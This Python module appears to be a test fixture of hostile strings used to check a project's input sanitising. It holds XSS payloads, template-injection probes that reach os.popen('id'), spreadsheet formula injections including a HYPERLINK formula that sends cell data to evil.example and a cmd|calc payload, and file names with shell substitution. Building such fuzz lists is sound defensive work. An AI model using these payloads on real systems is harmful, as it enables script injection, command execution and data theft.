"""Hostile strings, collected for this project: what is tried in each field that people write."""
# ruff: noqa: E501

from __future__ import annotations

from collections.abc import Iterator

HANDLERS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerdown",
            "onbeforetoggle", "oncontentvisibilityautostatechange")  # fmt: skip
SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)",
           "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
           "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
           "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "blob:https://a.example/1",
           "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "feed:javascript:alert(1)",
           "view-source:x", "jar:https://a.example!/x", "ws://evil.example", "intent://x", "%6aavascript:alert(1)",
           "x-javascript:alert(1)", " javascript:alert(1)", "https://user@evil.example", "mhtml:x")  # fmt: skip
ELEMENTS = ("script", "iframe src=//evil.example", "object data=x", "embed src=x", "svg onload=alert(1)", "math", "form",
            "base href=//evil.example/", "link rel=stylesheet href=//evil.example", "meta http-equiv=refresh content=0",
            "style", "template", "noscript", "textarea", "title", "plaintext", "xmp", "listing", "frameset", "video src=x",
            "audio src=x", "img src=x onerror=alert(1)", "input autofocus onfocus=alert(1)", "button formaction=x",
            "details open ontoggle=alert(1)", "marquee onstart=alert(1)", "portal src=x", "dialog open", "select", "table",
            "isindex", "keygen autofocus", "slot", "annotation-xml", "applet code=x", "bgsound src=x")  # fmt: skip
CLOSERS = ("</script>", "</style>", "</title>", "</textarea>", "</text>", "</svg>", "</a>", "</p>", "</td>", "</bdi>", "-->",
           "]]>", "--!>", "*/", '">', "'>", "`>", "/>", '"/>', "</html>", "?>", "%>")  # fmt: skip
ODDITIES = (
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<script >alert(1)</script >", "<a\x0bhref=x>".replace("\x0b", " "),
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;script>alert(1)", "%3Cscript%3Ealert(1)",
    "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)", "＜script＞alert(1)＜/script＞", "<!--<script>-->alert(1)",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>", "<svg/onload=alert(1)>",
    "<math><mtext></math><script>alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'javascript:alert(1)'</style>", "<p style='background:url(javascript:alert(1))'>",
    "<p style=width:expression(alert(1))>", "<x id=__proto__>", "<form id=document><input name=body>", "<a id=location>",
    "`><img src=x onerror=alert(1)>", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "[[constructor.constructor('a')()]]",
    "';alert(1)//", "\";alert(1)//", "\\\";alert(1)//", "</script><script>alert(1)</script>", "<!--#exec cmd='id'-->",
    "'-alert(1)-'", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<a href=\"x\"onclick=\"alert(1)\">x</a>", "=HYPERLINK(\"https://evil.example\")", "@SUM(1)", "\"><\"", "< script>", "<\t>",
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x]: javascript:alert(1)", "<javascript:alert(1)>",
    "![x](javascript:alert(1))", "![x](https://evil.example/x.png)", "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](/a 'onclick=alert(1)')", "[\"><script>](/a)", "`<script>`", "```<script>\nalert(1)\n```", "~~~\"><script>\n~~~",
    "[x](/a \"\\\"><script>alert(1)</script>\")", "# <script>alert(1)</script>", "| <script> | b |", "> <script>alert(1)</script>",
)  # fmt: skip


def markup() -> Iterator[str]:
    """What could become a script, a handler or a way to elsewhere on a page."""
    for handler in HANDLERS:
        yield f"<b {handler}=alert(1)>x</b>"
        yield f'" {handler}="alert(1)" x="'
        yield f"' {handler}='alert(1)' x='"
    for scheme in SCHEMES:
        yield f"[x]({scheme})"
        yield f"[x](<{scheme}>)"
        yield f'<a href="{scheme}">x</a>'
    for element in ELEMENTS:
        yield f"<{element}>alert(1)</{element.split()[0]}>"
    for closer in CLOSERS:
        yield f"{closer}<script>alert(1)</script>"
    yield from ODDITIES


# What a template engine would obey, were a text ever taken for a template; the sandbox probes among them.
TEMPLATES = (
    "{{7*7}}", "{{ 7*7 }}", "{%- if 1 -%}49{%- endif -%}", "{# x #}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "%(name)s", "%s%n",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{config}}", "{{self.__init__.__globals__}}", "{{cycler.__init__.__globals__.os}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}", "{{request|attr('application')}}", "{{()|attr('__class__')}}",
    "{{namespace.__init__.__globals__}}", "{{joiner.__init__}}", "{{''|format}}", "{{'%c'|format(49)}}", "{{x.__class__.__base__}}",
    "{{dict(a=1)|items}}", "{{range(10**9)|list}}", "{{'a'*10**10}}", "{% for a in (1,2) %}{{a}}{% endfor %}",
    "{% include 'base.html' %}", "{% import 'x' as y %}", "{% set a = 1 %}", "{{ (1).__format__('x') }}", "{{''.format_map}}",
    "{% trans %}x{% endtrans %}", "{{ _('x') }}", "{{ gettext('x') }}",
)  # fmt: skip

# What a spreadsheet would take for a formula.
FORMULAS = (
    "=1+1", '=HYPERLINK("https://evil.example?x="&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
    "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", " =1", '"=1', "=IMPORTXML(1)", "-2+3+cmd|' /C calc'!A0", "%0A=1",
)  # fmt: skip

# Names no file or folder of content may have.
PATHS = (
    "..", ".", "...", "a.", "a ", " a", "CON", "con", "nul", "com1", "lpt9", "aux", "prn", "Acme", "a_b", "a--b", "-a", "a-",
    "a/b", "a\\b", "%2e%2e", "a%2fb", "e\u0301", "é", "ａ", "ﬁ", "ı", "K", "٣", "²", "x" * 81, "a" * 250, "$(id)", "`id`", "a;b",
    "a&b", "a'b", 'a"b', "a<b", "a>b", "a|b", "a:b", "a*b", "a?b", "a\nb", "a\tb", "a\x7fb", "\u202eab", "a\u200bb", "аcme",
    "index.html", "404.html", "~a", "#a",
)  # fmt: skip
